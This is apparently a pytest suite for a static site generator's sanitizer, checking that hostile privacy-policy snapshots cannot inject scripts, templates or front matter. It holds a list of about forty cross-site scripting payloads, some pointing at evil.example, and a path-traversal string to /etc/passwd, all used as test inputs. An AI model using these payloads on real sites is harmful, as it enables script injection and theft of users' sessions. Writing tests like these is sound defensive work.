"""Hostile snapshot text never becomes markup, script, a template or front matter.

tests/fixtures/hostile/ is a content folder of attacks (one domain per kind of attack);
it is generated, built and every page of the site is audited statically here, and in a
real browser in tests/browser/test_hostile_browser.py.
"""

from __future__ import annotations

import json
import re
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import frontmatter
import pytest

from generator.analyse.markup import md_escape, plain_text, render_untrusted
from generator.archive import load_archive
from generator.pipeline import build
from generator.read.snapshots import parse_snapshot

from .hostile_checks import article_of, audit_html, scheme_of
from .support import FIXTURES, snapshot_text

HOSTILE = FIXTURES / "hostile"
TODAY = date(2026, 1, 1)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> tuple[Path, Path]:
    work = tmp_path_factory.mktemp("hostile")
    archive = load_archive(HOSTILE, today=TODAY)
    assert archive.rejected == [], [str(e) for e in archive.rejected]
    build(archive, work / "docs", work / "site")
    return work / "docs", work / "site"


def html_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_every_hostile_file_is_published(hostile_build):
    _, site = hostile_build
    report = json.loads((site / "data/build-report.json").read_text())
    sources = {row["source"] for row in report["accepted"]}
    files = {p.relative_to(HOSTILE).as_posix() for p in (HOSTILE / "snapshots").rglob("*.md")}
    assert sources == files and report["rejected"] == []
    for row in report["accepted"]:
        assert (site / row["page"].removesuffix(".md") / "index.html").is_file()


def test_no_page_carries_script_handlers_or_foreign_urls(hostile_build):
    _, site = hostile_build
    pages = html_pages(site)
    assert len(pages) > 40
    failures = {}
    for page in pages:
        audit = audit_html(page.read_text(encoding="utf-8"))
        problems = list(audit.problems)
        if len(audit.csp) != 1:
            problems.append(f"{len(audit.csp)} Content-Security-Policy meta tags")
        if not audit.csp_before_scripts:
            problems.append("a script comes before the Content-Security-Policy")
        if problems:
            failures[page.relative_to(site).as_posix()] = problems
    assert failures == {}


def test_csp_forbids_inline_scripts(hostile_build):
    _, site = hostile_build
    policy = audit_html((site / "index.html").read_text()).csp[0]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives["script-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"] and directives["base-uri"] == ["'none'"]
    assert "'unsafe-eval'" not in policy and "*" not in policy.split()


def test_articles_hold_no_interactive_or_embedding_elements(hostile_build):
    _, site = hostile_build
    for page in (site / "companies").rglob("*.html"):
        article = article_of(page.read_text(encoding="utf-8"))
        assert not re.search(r"<(script|style|iframe|object|embed|form|input|button|textarea|svg|math|base|meta|link|img)\b",
                             article, re.I), page


def test_template_syntax_is_literal(hostile_build):
    _, site = hostile_build
    text = (site / "companies/template-syntax.com/2010-01-01/index.html").read_text()
    for literal in ["{{ config.site_name }}", "{{ 7*7 }}", "{% include 'base.html' %}", "{# comment #}",
                    "{% raw %}", "--8&lt;--"]:
        assert literal.replace("'", "&#39;") in text or literal in text, literal
    assert "Privacy Policy Archive}" not in text and ">49<" not in text


def test_front_matter_in_body_is_text(hostile_build):
    docs, site = hostile_build
    post = frontmatter.loads((docs / "companies/front-matter-body.com/2010-01-01.md").read_text())
    assert "template" not in post.metadata and "search" not in post.metadata
    assert post.metadata["title"].startswith("front-matter-body.com")
    html = (site / "companies/front-matter-body.com/2010-01-01/index.html").read_text()
    assert "template: ../../../../etc/passwd" in html
    assert "<title>front-matter-body.com privacy policy" in html


def test_unterminated_comment_swallows_nothing(hostile_build):
    _, site = hostile_build
    html = (site / "companies/unterminated-comment.com/2010-01-01/index.html").read_text()
    assert "CANARY-AFTER-COMMENT" in html
    assert "&lt;!-- this comment never ends" in html
    assert html.rstrip().endswith("</html>") and "md-footer" in html


def test_hostile_titles_and_names_are_escaped_everywhere(hostile_build):
    docs, site = hostile_build
    for page in html_pages(site):
        html = page.read_text(encoding="utf-8")
        title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
        assert "<" not in title and ">" not in title, page
    for page in docs.rglob("*.md"):
        post = frontmatter.loads(page.read_text(encoding="utf-8"))
        for key, value in post.metadata.items():
            if isinstance(value, str):
                assert "<" not in value or key not in ("title", "description", "subtitle"), (page, key)


def test_wayback_links_cannot_break_out_of_href(hostile_build):
    _, site = hostile_build
    for domain in ["wayback-quote.com", "wayback-angle.com", "wayback-encoded.com", "wayback-paren.com"]:
        html = (site / f"companies/{domain}/2010-01-01/index.html").read_text()
        href = re.search(r'class="kb-wayback" href="([^"]*)"', html).group(1)
        assert href.startswith("https://web.archive.org/web/2010")
        assert not re.search(r"[\"'<> ]", href), href
        parser = LinkAttributes()
        parser.feed(html)
        archive_links = [attrs for attrs in parser.links if "web.archive.org" in (attrs.get("href") or "")]
        assert archive_links
        for attrs in archive_links:
            assert set(attrs) <= {"class", "href", "rel"}, attrs
            assert not re.search(r"[\"<> ]", attrs["href"]), attrs["href"]


class LinkAttributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self.links.append(dict(attrs))


def test_control_and_bidi_characters_are_removed(hostile_build):
    docs, site = hostile_build
    html = (site / "companies/control-chars.com/2010-01-01/index.html").read_text()
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)
    index = (docs / "companies/control-chars.com/index.md").read_text()
    assert "\u202e" not in frontmatter.loads(index).metadata["title"]


def test_deep_nesting_keeps_all_text(hostile_build):
    _, site = hostile_build
    html = (site / "companies/deep-nesting.com/2010-01-01/index.html").read_text()
    assert "deep quote" in html and html.count("<blockquote>") <= 20
    assert html.count("level") >= 300


def test_search_results_never_parse_policy_text_as_html(hostile_build):
    """Search results quote policy text; the client must only ever set it as text."""
    _, site = hostile_build
    client = (site / "assets/search.js").read_text(encoding="utf-8")
    client = re.sub(r"/\*.*?\*/|^\s*//.*$", "", client, flags=re.S | re.M)  # comments may name the APIs
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", client)
    index = "".join(p.read_text(encoding="utf-8", errors="replace") for p in (site / "search-index").rglob("*")
                    if p.is_file() and p.suffix == ".json")
    assert index, "the hostile site has a search index"


# --- the sanitizer on its own -------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<object data=x.swf>", "<embed src=x>", "<form action=//evil.example><input></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript&#x3A;alert(1))", "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](VBSCRIPT:msgbox(1))",
    "[x](%6Aavascript:alert(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")', '[x](https://a.example/"onmouseover="alert(1))',
    "![x](https://tracker.example/p.gif)", '![x" onerror="alert(1)](x)', "![x](javascript:alert(1))",
    "<!-- unterminated", "<![CDATA[<script>alert(1)</script>]]>", "<details open ontoggle=alert(1)>",
    "<a href='https://a.example' onclick=alert(1)>x</a>", "``<script>`` ` <img src=x onerror=alert(1)> `",
    "```\n</pre><script>alert(1)</script>\n```", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_untrusted_neutralises(attack):
    html = render_untrusted(attack + "\n\ntrailing text")
    audit = audit_html(html)
    assert audit.problems == [] and audit.scripts == []
    assert not re.search(r"<(script|img|svg|math|iframe|object|embed|form|input|meta|base|style|details)\b", html, re.I)
    for href in re.findall(r'href="([^"]*)"', html):
        assert scheme_of(href) in ("http", "https", "mailto"), href
    assert "trailing text" in html
    assert "\n\n" not in html  # one raw HTML block for Python-Markdown


@pytest.mark.parametrize("value", ["</title><script>alert(1)</script>", "{{ 7*7 }}", "[x](javascript:1)",
                                   "# heading", "- item", "1. item", "|a|b|", "<!--", "&amp; &#60;", "*x* _y_ `z`"])
def test_md_escape_shows_text_literally(value):
    escaped = md_escape(value)
    html = render_untrusted(escaped)
    assert plain_text(escaped) == value
    assert "<" not in re.sub(r"</?p>", "", html)


def test_title_with_markup_is_plain_text_in_the_snapshot():
    snapshot = parse_snapshot(snapshot_text("x.com", "2010-01-01", "Body.", title="<b>Bold</b> | Privacy").encode(),
                              "x.md", today=TODAY)
    assert snapshot.title == "<b>Bold</b> | Privacy"
